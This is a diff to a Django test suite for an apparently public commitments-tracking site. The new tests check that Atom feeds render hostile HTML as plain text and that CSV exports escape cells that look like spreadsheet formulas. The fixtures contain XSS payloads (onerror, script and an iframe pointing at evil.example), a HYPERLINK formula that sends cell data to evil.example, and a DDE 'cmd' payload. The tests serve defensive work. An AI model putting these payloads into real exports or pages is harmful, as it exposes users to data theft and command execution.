@@ -5,15 +5,27 @@ import io
 import json
 import zipfile
 from datetime import date
+from decimal import Decimal
+from xml.etree import ElementTree
 
 import feedparser
 import pytest
 from django.core.cache import cache
+from django.utils import timezone
 
 from commitments.loading import load_demo
-from commitments.models import Commitment
+from commitments.models import Commitment, Evidence
 from commitments.public.filters import CommitmentFilter
 from commitments.services import record_status_change
+
+from .factories import (
+    CommitmentFactory,
+    EvidenceFactory,
+    FigureCellFactory,
+    FigureTableFactory,
+    QuestionEventFactory,
+    WrittenQuestionFactory,
+)
 
 
 @pytest.fixture(autouse=True)
@@ -179,6 +191,108 @@ def test_filtered_exports_are_limited_per_client_and_whole_ones_are_not(client, 
         assert client.get("/exports/commitments.csv?theme=", **address).status_code == 200
 
 
+IMAGE = '<img src="https://evil.example/pixel.png" onerror="alert(1)">'
+ATOM = "{http://www.w3.org/2005/Atom}"
+
+
+def test_feed_summaries_are_plain_text_so_hostile_html_loads_and_runs_nothing(client, db):
+    commitment = CommitmentFactory(title=f"Panels {IMAGE}")
+    EvidenceFactory(
+        commitment=commitment,
+        excerpt=f"IPP Delivery Plans {IMAGE}",
+        state=Evidence.State.CONFIRMED,
+        reviewed_at=timezone.now(),
+    )
+    record_status_change(
+        commitment,
+        to="delayed",
+        reason="<script>alert(1)</script><iframe src=//evil.example>",
+        effective_on=date(2025, 1, 1),
+    )
+    for url in [
+        "/feeds/updates.atom",
+        f"/themes/{commitment.theme.slug}/feed.atom",
+        f"/commitments/{commitment.slug}/feed.atom",
+    ]:
+        root = ElementTree.fromstring(client.get(url).content)
+        elements = list(root.iter())
+        # Nothing but Atom's own elements, and no attribute that runs or loads anything.
+        assert all(element.tag.startswith(ATOM) for element in elements), url
+        assert not [name for element in elements for name in element.attrib if name.lower().startswith("on")]
+        summaries = root.findall(f"{ATOM}entry/{ATOM}summary")
+        assert len(summaries) == 2
+        # Text constructs: a feed reader shows the markup as characters, never as HTML.
+        for element in elements:
+            if element.tag in {f"{ATOM}title", f"{ATOM}subtitle", f"{ATOM}summary", f"{ATOM}content"}:
+                assert element.get("type", "text") == "text", (url, element.tag)
+        assert any(IMAGE in summary.text for summary in summaries)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"IPP")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_cells(db):
+    """Editors' and Parliament's text, each starting the way a spreadsheet formula does."""
+    commitment = CommitmentFactory(title=FORMULA, owner="@SUM(1+1)", summary="+44 cmd|' /C calc'!A0")
+    question = WrittenQuestionFactory(
+        uin="-3",
+        heading="=1+1",
+        asking_member="@evil",
+        answering_member="+evil",
+        answering_body="\t=1+1",
+    )
+    EvidenceFactory(
+        commitment=commitment,
+        question=question,
+        excerpt="\r=1+1",
+        state=Evidence.State.CONFIRMED,
+        reviewed_at=timezone.now(),
+    )
+    QuestionEventFactory(question=question)
+    record_status_change(commitment, to="delayed", reason="-1+2", effective_on=date(2025, 1, 1))
+    FigureCellFactory(
+        row__table__question=question,
+        row__label="=row",
+        column__label="+column",
+        value=Decimal("-3"),
+        published="-3",
+    )
+    return commitment
+
+
+def _zip_csvs(client) -> dict[str, list[dict]]:
+    response = client.get("/exports/ipp-tracker-data.zip")
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    return {
+        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+        for name in archive.namelist()
+        if name.endswith(".csv")
+    } | {"data": json.loads(archive.read("data.json"))}
+
+
+def test_no_csv_cell_starts_like_a_formula_but_our_own_numbers_stay_numbers(client, hostile_cells):
+    tables = _zip_csvs(client)
+    data = tables.pop("data")
+    tables["commitments_export"] = _csv(client, "/exports/commitments.csv")
+    tables["questions_export"] = _csv(client, "/exports/questions.csv")
+    assert len(tables) == 8 and all(tables.values())
+    for name, rows in tables.items():
+        for row in rows:
+            for column, cell in row.items():
+                if column != "value":  # figure values: a number from our own numeric field
+                    assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
+    assert tables["commitments"][0]["title"] == tables["commitments_export"][0]["title"] == "'" + FORMULA
+    assert tables["questions_export"][0]["uin"] == "'-3"  # Parliament's text, not our number
+    assert tables["evidence"][0]["excerpt"] == "'\r=1+1"
+    [cell] = tables["figure_cells"]
+    assert (cell["row_label"], cell["column_label"], cell["published"]) == ("'=row", "'+column", "'-3")
+    assert Decimal(cell["value"]) == -3
+    # The JSON in the same zip is not a spreadsheet: it keeps the text as stored.
+    assert data["commitments"][0]["title"] == FORMULA
+
+
 def test_api_lists_and_filters_like_the_pages(client, demo):
     body = client.get("/api/v1/commitments/?theme=electronic-monitoring&status=in_progress").json()
     assert body["count"] == 3
@@ -211,6 +325,30 @@ def test_api_figure_cells_keep_suppressed_and_nil_without_values(client, demo):
 def test_api_bad_input_is_a_400_naming_the_parameter(client, demo, url, parameter):
     response = client.get(url)
     assert response.status_code == 400 and parameter in response.json()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/v1/commitments/",
+        "/api/v1/themes/",
+        "/api/v1/action-plans/",
+        "/api/v1/questions/",
+        "/api/v1/figure-tables/",
+    ],
+)
+@pytest.mark.parametrize(
+    "page_number",
+    ["%C2%B2", "%E2%91%A4", "%D9%A3", "9" * 5000],
+    ids=["superscript-two", "circled-five", "arabic-indic-three", "5000-nines"],
+)
+def test_api_page_numbers_that_are_not_ascii_digits_are_a_400_never_an_error(client, db, url, page_number):
+    """Superscript two, circled five and Arabic-Indic three all pass str.isdigit(); so do 5,000 nines,
+    more than int() will read."""
+    CommitmentFactory()
+    FigureTableFactory()
+    response = client.get(f"{url}?page={page_number}")
+    assert response.status_code == 400 and "page" in response.json()
 
 
 def test_api_unknown_ids_are_json_404s(client, demo):
